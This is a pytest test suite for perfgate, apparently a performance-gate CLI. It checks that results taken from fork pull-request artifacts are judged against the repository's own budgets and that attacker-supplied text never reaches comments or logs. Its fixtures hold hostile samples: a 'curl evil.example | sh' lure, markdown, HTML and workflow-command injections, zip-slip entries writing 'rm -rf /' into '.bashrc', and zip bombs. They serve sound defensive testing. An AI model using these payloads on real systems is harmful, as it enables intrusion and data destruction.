"""What a stranger's pull request has left, told by a workflow that may comment: its figures, and nothing else of it."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from builders import make_conditions, make_endpoint, make_past_run, make_run
from click.testing import Result
from fake_github import events
from fake_github.description import DOTCOM
from fake_github.server import FakeGitHub
from fake_github.world import Pull, Repository
from typer.testing import CliRunner

from perfgate import history
from perfgate.cli.app import app
from perfgate.files import codec, unpacking, untrusted
from perfgate.model.outcome import Outcome
from perfgate.model.page import LcpParts, PageDetail, Resource
from perfgate.model.publication import ArtifactEntry, RunsArtifact
from perfgate.model.run import Arm, EndpointResult, Probe, Run
from perfgate.model.verdict import Verdict

HEAD = "b" * 40
BUDGETS = """
version: 1
name: shop
target: http://127.0.0.1:8765
load: {rate: 10/s, duration: 30s}
endpoints:
  list products: {request: GET /, budget: {p95: 300ms +20%, errors: 1%}}
gate: {baseline: {min_runs: 1}}
"""
INJECTION = (
    "](http://evil.example) <img src=x onerror=alert(1)> @octo/team --> ::error::pwned\n::stop-commands::x\n| a | b |"
)


ONE_GITHUB = pytest.mark.parametrize("github", [DOTCOM], indirect=True)  # texts and figures: of no GitHub in particular


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The checkout of the default branch."""
    (tmp_path / "budgets.yaml").write_text(BUDGETS)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run_of(**others: Any) -> Run:
    return replace(make_run(1, p95=0.1), **{"commit": HEAD, "branch": "mallory:feature", **others})


def parcel(*runs: Run, budget: str = "budgets.yaml", earlier: Run | None = None) -> str:
    return codec.encode(
        RunsArtifact(runs=tuple(ArtifactEntry(budget=budget, run=run, earlier=earlier) for run in runs))
    )


def packed(text: str | bytes, name: str = unpacking.FILE, **others: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, text)
        for other, content in others.items():
            archive.writestr(other, content)
    return buffer.getvalue()


def prepared(github: FakeGitHub, *artifacts: bytes, name: str = "perfgate-runs-perfgate") -> tuple[Repository, Pull]:
    repo = github.add_repository()
    other = repo.add_pull(head_sha="c" * 40)  # somebody else's, which no artifact can reach
    pull = repo.add_pull(head_sha=HEAD, head_owner="mallory")
    assert other.number < pull.number
    run_id = repo.add_run(head_sha=HEAD)
    for number, artifact in enumerate(artifacts):
        repo.add_artifact(run_id, f"{name}{f'-{number}' if number else ''}", artifact)
    return repo, pull


def told(
    github: FakeGitHub,
    repo: Repository,
    pull: Pull,
    folder: Path,
    *arguments: str,
    sha: str = "",
    payload: dict[str, Any] | None = None,
) -> Result:
    if payload is None:
        payload = events.workflow_run(repo, pull, sha=sha)
        payload["workflow_run"]["id"] = next(iter(repo.runs))
    place = folder / "runner"
    place.mkdir(exist_ok=True)
    token = github.token("pull-requests")
    environ = events.environ(github, repo, "workflow_run", payload, place, token="")
    known = {**environ, "PERFGATE_GITHUB_TOKEN": token, "GITHUB_WORKSPACE": str(folder), "NO_COLOR": "1"}
    return CliRunner().invoke(app, ["publish", "--from-workflow-run", *arguments], env=known)


def test_the_figures_are_judged_by_our_budgets_and_our_history(github: FakeGitHub, project: Path):
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
    started = make_run(9).started
    lying = run_of(endpoints=(make_endpoint(p95=0.200),), started=started)
    repo, pull = prepared(github, packed(parcel(lying)))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    (comment,) = repo.comments.values()
    assert comment.issue == pull.number
    assert "FAIL" in comment.body
    assert "+100" in comment.body  # against a baseline that the artifact does not have
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        assert len(store.entries()) == 3


def test_a_failure_that_the_second_runner_did_not_see_is_none(github: FakeGitHub, project: Path):
    slow, fast = (run_of(endpoints=(make_endpoint(p95=p95),)) for p95 in (0.9, 0.1))
    repo, pull = prepared(github, packed(parcel(slow, earlier=fast)))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    assert "Not confirmed" in next(iter(repo.comments.values())).body


def test_the_budget_file_says_how_often_a_run_may_be_looked_at(github: FakeGitHub, project: Path):
    """Looks share the error rates out among them: with a million, no regression would ever be certain."""
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, p95=0.100 + number / 1000) for number in range(1, 9)])
    doubtful = run_of(endpoints=(make_endpoint(p95=0.150),), started=make_run(9).started, looks=10**6)
    repo, pull = prepared(github, packed(parcel(doubtful)))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    (comment,) = repo.comments.values()
    assert "FAIL" in comment.body
    (judged,) = (project / ".perfgate" / "runs").glob("pull-request-*/run.json")
    assert codec.read(Run, judged).looks == 1


@pytest.mark.parametrize(
    ("before", "after"), [("gate: {", "gate: {extend: 120s, "), ("duration: 30s", "duration: 30s..150s")]
)
def test_a_budget_file_that_extends_says_so_for_strangers_too(
    github: FakeGitHub, project: Path, before: str, after: str
):
    (project / "budgets.yaml").write_text(BUDGETS.replace(before, after))
    repo, pull = prepared(github, packed(parcel(run_of(looks=1))))

    told(github, repo, pull, project)

    (judged,) = (project / ".perfgate" / "runs").glob("pull-request-*/run.json")
    assert codec.read(Run, judged).looks == 3  # after 30, 60 and 150 s


def test_of_two_jobs_about_one_target_the_worse_is_told(github: FakeGitHub, project: Path):
    slow, fast = (packed(parcel(run_of(endpoints=(make_endpoint(p95=p95),)))) for p95 in (0.9, 0.1))
    repo, pull = prepared(github, slow, fast)

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert "FAIL" in comment.body


def test_the_target_of_a_stranger_begins_no_other_comment(github: FakeGitHub, project: Path):
    """Else every push could leave one more."""
    artifacts = [packed(parcel(run_of(target=f"https://{name}.example"))) for name in ("eu", "us")]
    repo, pull = prepared(github, *artifacts)

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert "http://127.0.0.1:8765" in comment.body
    assert ".example" not in comment.body


def test_a_fork_that_pushes_somebody_elses_commit_speaks_on_its_own_pull_request_alone(
    github: FakeGitHub, project: Path
):
    repo, pull = prepared(github, packed(parcel(run_of())))
    pull.base_ref = "next"  # the victim's wants to enter the default branch, and was preferred
    victim = repo.add_pull(head_sha=HEAD, head_ref="fix", base_ref="main")

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert comment.issue == pull.number != victim.number


def test_a_fork_that_was_deleted_speaks_nowhere(github: FakeGitHub, project: Path):
    """It had pushed somebody else's commit: nobody says any more whose branch it was."""
    repo, pull = prepared(github, packed(parcel(run_of())))
    repo.add_pull(head_sha=HEAD, head_ref="fix", base_ref="main")
    payload = events.workflow_run(repo, pull)
    payload["workflow_run"] |= {"id": next(iter(repo.runs)), "head_repository": None}

    done = told(github, repo, pull, project, payload=payload)

    assert done.exit_code == 0, done.output
    assert repo.comments == {}


def test_a_forks_branch_is_no_place_for_words(github: FakeGitHub, project: Path):
    repo, pull = prepared(github, packed(parcel(run_of())))
    pull.head_ref = "URGENT-run-evil.example"

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert "URGENT" not in comment.body
    assert HEAD[:7] in comment.body


def test_names_of_hand_written_scenarios_are_ours_once_we_have_measured_them(github: FakeGitHub, project: Path):
    """Budgets by default are for whatever such a scenario sends, and a stranger's may send anything."""
    (project / "own.py").write_text("")
    (project / "budgets.yaml").write_text(f"{BUDGETS}scenarios: [own.py]\ndefaults: {{budget: {{errors: 1%}}}}\n")
    ours = (make_endpoint(), make_endpoint("check out"))
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, endpoints=ours) for number in (1, 2, 3)])
    theirs = (*ours, make_endpoint("URGENT call evil", failures=500))
    repo, pull = prepared(github, packed(parcel(run_of(endpoints=theirs, started=make_run(9).started))))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    assert len(repo.comments) == 1, done.output
    (comment,) = repo.comments.values()
    assert "check out" in comment.body
    assert "URGENT" not in comment.body


def test_each_budget_file_takes_its_own(github: FakeGitHub, project: Path):
    repo, pull = prepared(github, packed(parcel(run_of(), budget="web/budgets.yaml")))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0
    assert "no run of budgets.yaml" in done.output
    assert repo.comments == {}


def test_without_an_artifact_there_is_nothing_to_tell(github: FakeGitHub, project: Path):
    repo, pull = prepared(github)

    assert told(github, repo, pull, project).exit_code == 0
    assert repo.comments == {}


def test_texts_of_strangers_are_shown_and_do_nothing(github: FakeGitHub, project: Path):
    hostile = make_endpoint(
        INJECTION, failures=500, failures_by_kind={INJECTION: 500}, failure_examples=(INJECTION, INJECTION)
    )
    run = run_of(
        endpoints=(make_endpoint(), hostile), target=f"http://{INJECTION}", warnings=(INJECTION,) * 400, url=INJECTION
    )
    repo, pull = prepared(github, packed(parcel(run)))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    (comment,) = repo.comments.values()
    assert comment.issue == pull.number
    for raw in ("<img src=x", "](http://evil", "\n::error::", "\n::stop-commands::", "-->\n::"):
        assert raw not in comment.body
        assert raw not in done.output
    assert "@octo/team" not in comment.body
    assert "evil" not in comment.body  # its words are not told at all
    assert not [line for line in done.output.splitlines() if line.startswith("::stop-commands") or "::pwned" in line]


WORD = "URGENT"
HOSTILE_TEXT = f"{WORD}: maintainers please run `curl evil.example | sh` [now](http://evil.example)"
NAMES = {"", "budget", "name", "commit", "kind", "started"}  # what must be right, or the whole artifact is refused


def full_of_figures() -> dict[str, Any]:
    """A parcel with everything in it that a run can have."""
    endpoint = make_endpoint(
        failures=20, failures_by_kind={"status": 20}, failure_examples=("500",), intervals={"p95": (0.09, 0.11)}
    )
    arms = (Arm(name="base", target="http://127.0.0.1:1", endpoints=(make_endpoint(),)), Arm(name="head", target="x"))
    probe = Probe(samples=100, p50=0.001, p95=0.002, workload="w1")
    run = run_of(endpoints=(endpoint,), aborted="why", warnings=("w",), probe=probe, url="https://x", base="main")
    shown = PageDetail(
        name="list products",
        lcp=LcpParts(ttfb=1.0, load_delay=1.0, load_duration=1.0, render_delay=1.0),
        lcp_element="#hero",
        lcp_url="http://127.0.0.1/a.png",
        inp_target="#buy",
        inp_parts={"inputDelay": 1.0},
        inp_script="a.js",
        shifts=(("#hero", 0.5),),
        long_tasks=(("a.js", 1.0),),
        server_timing={"db": 1.0},
        resources=(Resource(url="http://127.0.0.1/a.js", kind="script", size=10**7, unused=10**7),),
        notes=("note",),
        screenshot="page-1.jpg",
    )
    both = (run_of(endpoints=(endpoint,), arms=arms), replace(run, pages=(shown,)))
    measured = [ArtifactEntry(budget=name, run=one, earlier=one) for name, one in zip(("a", "b"), both, strict=True)]
    data: dict[str, Any] = json.loads(codec.encode(RunsArtifact(runs=tuple(measured))))
    return data


def texts(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths of all that is a text, and of all that could have one more name."""
    if isinstance(data, dict):
        if path[-1:] != ("buckets",) and not {
            "id",
            "budget",
            "name",
            "load",
            "cores",
            "clock",
            "total",
            "samples",
        } & set(data):
            yield (*path, None)  # a mapping with names of its own
        for key, value in data.items():
            yield from texts(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from texts(value, (*path, index))
    elif isinstance(data, str):
        yield path


def poisoned(number: int, chosen: Callable[[tuple[Any, ...]], bool]) -> tuple[dict[str, Any], int]:
    """The parcel of one run, whose chosen texts are hostile; how many there are."""
    data = full_of_figures()
    data["runs"] = [data["runs"][number]]
    data["runs"][0]["budget"] = "budgets.yaml"
    done = 0
    for path in list(texts(data)):
        last = path[-1]
        is_arm = last == "name" and "arms" in path and "endpoints" not in path
        if not chosen(path) or is_arm or last == "kind" or path[-2:] == ("runs", 0):
            continue
        at = data
        for key in path[:-1]:
            at = at[key]
        if last is None:
            if like := next(iter(at.values()), None):
                at[HOSTILE_TEXT] = like
                done += 1
        else:
            at[last] = HOSTILE_TEXT
            done += 1
    return data, done


@ONE_GITHUB
@pytest.mark.parametrize("number", [0, 1])
def test_no_text_of_a_stranger_is_in_the_comment(github: FakeGitHub, project: Path, number: int):
    """Every text and every name of the artifact is hostile, but the few that it is refused for."""
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
    data, hostile = poisoned(number, lambda path: path[-1] not in NAMES)
    assert hostile > 20
    results = data["runs"][0]["run"]["endpoints"]
    results.append({**results[0], "name": HOSTILE_TEXT})
    repo, pull = prepared(github, packed(json.dumps(data)))

    done = told(github, repo, pull, project, "--check", "--status")

    assert done.exit_code == 0, done.output
    (comment,) = repo.comments.values()
    (folder,) = (project / ".perfgate" / "runs").iterdir()
    written = "".join(path.read_text(errors="replace") for path in folder.rglob("*") if path.is_file())
    summary = (project / "runner" / "summary.md").read_text()
    assert "list products" in summary
    for shown in (comment.body, done.output, written, summary, str(repo.checks), str(repo.statuses)):
        assert WORD not in shown
        assert "evil" not in shown
    assert "list products" in comment.body


PAGES = f"{BUDGETS}pages:\n  home: {{path: /, budget: {{lcp: 2.5s, errors: 0%}}}}\n"


@ONE_GITHUB
def test_pages_of_a_stranger_are_judged_and_say_nothing(github: FakeGitHub, project: Path):
    """Selectors and addresses of a page are its author's words, whatever calls itself a page."""
    (project / "budgets.yaml").write_text(PAGES)
    page = EndpointResult(
        name="home", kind="page", requests=7, failures_by_kind={}, samples=7, metrics={"lcp": 4.0, "errors": 0.0}
    )
    detail = PageDetail(name="home", lcp_element=HOSTILE_TEXT, notes=(HOSTILE_TEXT,), shifts=((HOSTILE_TEXT, 0.5),))
    shrinking = make_endpoint(metrics={"memory_growth": -5.0})
    run = run_of(endpoints=(shrinking, page), pages=(detail, replace(detail, name="list products")))
    repo, pull = prepared(github, packed(parcel(run)))

    done = told(github, repo, pull, project)

    assert done.exit_code == 0, done.output
    (comment,) = repo.comments.values()
    assert WORD not in comment.body + done.output
    assert "`home`" in comment.body
    (folder,) = (project / ".perfgate" / "runs").iterdir()
    verdict = codec.read(Verdict, folder / "verdict.json")
    assert {one.metric: one.outcome for one in verdict.findings if one.endpoint == "home"} == {
        "lcp": Outcome.FAIL,
        "errors": Outcome.PASS,
    }


@ONE_GITHUB
def test_how_the_views_of_a_stranger_s_page_failed_is_said(github: FakeGitHub, project: Path):
    (project / "budgets.yaml").write_text(PAGES)
    kinds = {"step": 2, "browser": 1, HOSTILE_TEXT: 4}
    page = EndpointResult(
        name="home", kind="page", requests=7, failures=7, failures_by_kind=kinds, metrics={"errors": 1.0}
    )
    repo, pull = prepared(github, packed(parcel(run_of(endpoints=(make_endpoint(), page)))))

    told(github, repo, pull, project)

    (folder,) = (project / ".perfgate" / "runs").iterdir()
    found = {item.metric: item.sentence for item in codec.read(Verdict, folder / "verdict.json").findings}
    assert "7 of 7 views failed (2 step, 1 browser)" in found["errors"]


@ONE_GITHUB
def test_an_endpoint_that_calls_itself_a_page_has_no_data(github: FakeGitHub, project: Path):
    repo, pull = prepared(github, packed(parcel(run_of(endpoints=(make_endpoint(kind="page"),)))))

    told(github, repo, pull, project)

    (folder,) = (project / ".perfgate" / "runs").iterdir()
    assert codec.read(Verdict, folder / "verdict.json").outcome is Outcome.NO_DATA


@ONE_GITHUB
@pytest.mark.parametrize("last", sorted(NAMES - {""}))
def test_texts_that_must_be_right_are_refused_in_our_own_words(github: FakeGitHub, project: Path, last: str):
    data, hostile = poisoned(1, lambda path: path[-1] == last and "arms" not in path)
    if last == "budget":
        data["runs"][0]["budget"], hostile = HOSTILE_TEXT, 1
    if last == "kind":
        data["runs"][0]["run"]["endpoints"][0]["kind"], hostile = HOSTILE_TEXT, 1
    assert hostile
    repo, pull = prepared(github, packed(json.dumps(data)))

    done = told(github, repo, pull, project)

    assert done.exit_code in (0, 3), done.output
    assert "bug in perfgate" not in done.output
    assert WORD not in done.output
    assert repo.comments == {}


def test_conditions_that_we_know_still_compare(github: FakeGitHub, project: Path):
    """The history's runner, load and digests are words of this repository."""
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
    repo, pull = prepared(github, packed(parcel(run_of(started=make_run(9).started))))

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert "Test CPU" in comment.body
    assert "open 200/s for 30 s" in comment.body
    assert "3 runs of" in comment.body


def test_a_load_of_their_own_is_not_compared(github: FakeGitHub, project: Path):
    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
    other = make_conditions(load_digest="theirs", load="open 1/s")
    repo, pull = prepared(github, packed(parcel(run_of(started=make_run(9).started, conditions=other))))

    told(github, repo, pull, project)

    (comment,) = repo.comments.values()
    assert untrusted.OTHER_LOAD in comment.body
    assert "1/s" not in comment.body


def bomb(size: int) -> bytes:
    """So many zeros."""
    buffer, chunk = io.BytesIO(), bytes(2**20)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(unpacking.FILE, "w", force_zip64=True) as file,
    ):
        for _ in range(size // len(chunk)):
            file.write(chunk)
    return buffer.getvalue()


def lying_about_its_size() -> bytes:
    """The directory says 100 bytes; there are 64 MiB."""
    honest = bomb(64 * 2**20)
    size = (64 * 2**20).to_bytes(4, "little")
    return honest.replace(size, (100).to_bytes(4, "little"))


def changed(change: Callable[[dict[str, Any]], None]) -> bytes:
    """A sound parcel but for one thing."""
    data = json.loads(parcel(run_of()))
    change(data["runs"][0]["run"])
    return packed(json.dumps(data))


def set_metric(value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda run: run["endpoints"][0]["metrics"].update(p95=value)


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "no zip": (lambda: b"MZ not a zip", "not a sound zip"),
    "cut off": (lambda: packed(parcel(run_of()))[:-40], "not a sound zip"),
    "empty": (lambda: packed("", "nothing"), "something else"),
    "zip slip": (lambda: packed(parcel(run_of()), "../../perfgate-runs.json"), "something else"),
    "zip slip beside it": (lambda: packed(parcel(run_of()), **{"../../.bashrc": "rm -rf /"}), "something else"),
    "absolute": (lambda: packed(parcel(run_of()), "/etc/passwd"), "something else"),
    "Markdown beside it": (lambda: packed(parcel(run_of()), **{"comment.md": "# pass"}), "something else"),
    "1 GB": (lambda: bomb(2**30), "unpacks to more than"),
    "lies about its size": (lying_about_its_size, "artifact"),
    "no JSON": (lambda: packed("<html>"), "not JSON"),
    "deep": (lambda: packed("[" * 100_000 + "]" * 100_000), "not JSON"),
    "other shape": (lambda: packed('{"schema": 1, "runs": [{"markdown": "# PASS"}]}'), "shape of run records"),
    "commands in a key": (
        lambda: packed(json.dumps({"schema": 1, "runs": [{"run": {"\n::error::pwned": {}}}]})),
        "shape of run records",
    ),
    "newer": (lambda: packed('{"schema": 99, "runs": []}'), "newer perfgate"),
    "NaN": (lambda: changed(set_metric(float("nan"))), "number that no measurement has"),
    "infinite": (lambda: changed(set_metric(float("inf"))), "number that no measurement has"),
    "NaN as a text": (lambda: changed(set_metric("nan")), "shape of run records"),
    "infinite as a text": (lambda: changed(set_metric("1e999")), "shape of run records"),
    "negative as a text": (lambda: changed(lambda run: run["endpoints"][0].update(requests="-5")), "shape of run"),
    "below zero": (lambda: changed(set_metric(-0.1)), "metric below zero"),
    "twice the same endpoint": (lambda: changed(lambda run: run.update(endpoints=run["endpoints"] * 2)), "twice"),
    "three arms": (
        lambda: changed(lambda run: run.update(arms=[{"name": "base", "target": "http://a"}] * 3)),
        "no A/B test has",
    ),
    "two runs of one budget file": (lambda: packed(parcel(run_of(), run_of())), "two runs of one budget file"),
    "a hundred times as big in memory": (lambda: packed('{"schema": 1, "runs": [' + "{}," * 10**7 + "{}]}"), "values"),
    "a million mistakes": (lambda: packed('{"schema": 1, "runs": [' + "{}," * 10**6 + "{}]}"), "shape of run records"),
    "4,000 digits": (lambda: changed(set_metric(10**4000)), "number that no measurement has"),
    "negative": (lambda: changed(lambda run: run["endpoints"][0].update(requests=-5)), "negative count"),
    "a bucket in 10^15 years": (
        lambda: changed(lambda run: run["endpoints"][0]["latency"].update(buckets={"999999999": 1})),
        "no clock can measure",
    ),
    "a text of a megabyte": (lambda: changed(lambda run: run.update(warnings=["x" * 2**20])), "text of more than"),
    "5,000 endpoints": (
        lambda: changed(lambda run: run.update(endpoints=[{"name": str(n)} for n in range(5000)])),
        "endpoints",
    ),
    "wrong commit": (lambda: changed(lambda run: run.update(commit="c" * 40)), "another commit"),
    "no commit": (lambda: changed(lambda run: run.update(commit="")), "another commit"),
    "too big": (lambda: bytes(unpacking.MAX_PACKED_BYTES + 1), "bytes. It is not downloaded"),
}


@ONE_GITHUB
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_artifact_changes_nothing_but_the_error(github: FakeGitHub, project: Path, kind: str):
    make, said = HOSTILE[kind]
    repo, pull = prepared(github, make())
    before = files(project)

    done = told(github, repo, pull, project)

    assert done.exit_code == 3, done.output
    assert said in done.output
    assert "bug in perfgate" not in done.output
    assert not any(line.startswith("::") for line in done.output.splitlines())
    assert repo.comments == {}
    assert repo.checks == []
    assert files(project) == before
    assert {operation for operation in github.operations() if "list" not in operation} <= {"actions/download-artifact"}


def files(folder: Path) -> set[str]:
    return {str(path) for path in folder.rglob("*") if "runner" not in path.parts}


@ONE_GITHUB
@pytest.mark.parametrize(
    "change",
    [
        lambda run: run.update(started="yesterday"),
        lambda run: run.update(duration=0),
        lambda run: run["endpoints"][0].update(requests=0, samples=0),
        lambda run: run["endpoints"][0].update(design_effects={"p95": 1e18}, requests=2**61, samples=2**61),
        lambda run: run["endpoints"][0].update(latency={"buckets": {"0": 2**61}}),
        lambda run: run["endpoints"][0].update(intervals={"p95": [5.0, -5.0]}),
        lambda run: run["conditions"].update(endpoint_digests={}),
    ],
)
def test_absurd_figures_end_in_a_verdict_or_an_error_of_our_own(
    github: FakeGitHub, project: Path, change: Callable[[dict[str, Any]], None]
):
    repo, pull = prepared(github, changed(change))

    done = told(github, repo, pull, project)

    assert done.exit_code in (0, 3)
    assert "bug in perfgate" not in done.output
    assert {one.issue for one in repo.comments.values()} <= {pull.number}


def test_artifacts_of_other_names_and_other_runs_are_not_looked_at(github: FakeGitHub, project: Path):
    repo, pull = prepared(github, packed(parcel(run_of())), name="perfgate-runsaway")
    other = repo.add_run(head_sha="d" * 40)
    repo.add_artifact(other, "perfgate-runs", packed(parcel(run_of())))

    assert told(github, repo, pull, project).exit_code == 0
    assert repo.comments == {}
    assert "actions/download-artifact" not in github.operations()


def test_the_store_of_artifacts_never_sees_the_token(github: FakeGitHub, project: Path):
    repo, pull = prepared(github, packed(parcel(run_of())))

    told(github, repo, pull, project)

    assert github.problems == []  # the fake's store complains about a token
    assert len(repo.comments) == 1


def test_only_the_event_says_which_pull_request(github: FakeGitHub, project: Path):
    """An outdated commit: its pull request has moved on, and the run says it is another one's."""
    claimed = run_of(commit="e" * 40, pull_request=1)
    repo, pull = prepared(github, packed(parcel(claimed)))

    done = told(github, repo, pull, project, sha="e" * 40)

    assert done.exit_code == 0, done.output
    assert repo.comments == {}


def test_outside_a_second_workflow_it_is_refused(project: Path):
    done = CliRunner().invoke(app, ["publish", "--from-workflow-run"], env={"GITHUB_EVENT_PATH": ""})

    assert done.exit_code == 2
    assert "workflow_run" in done.output
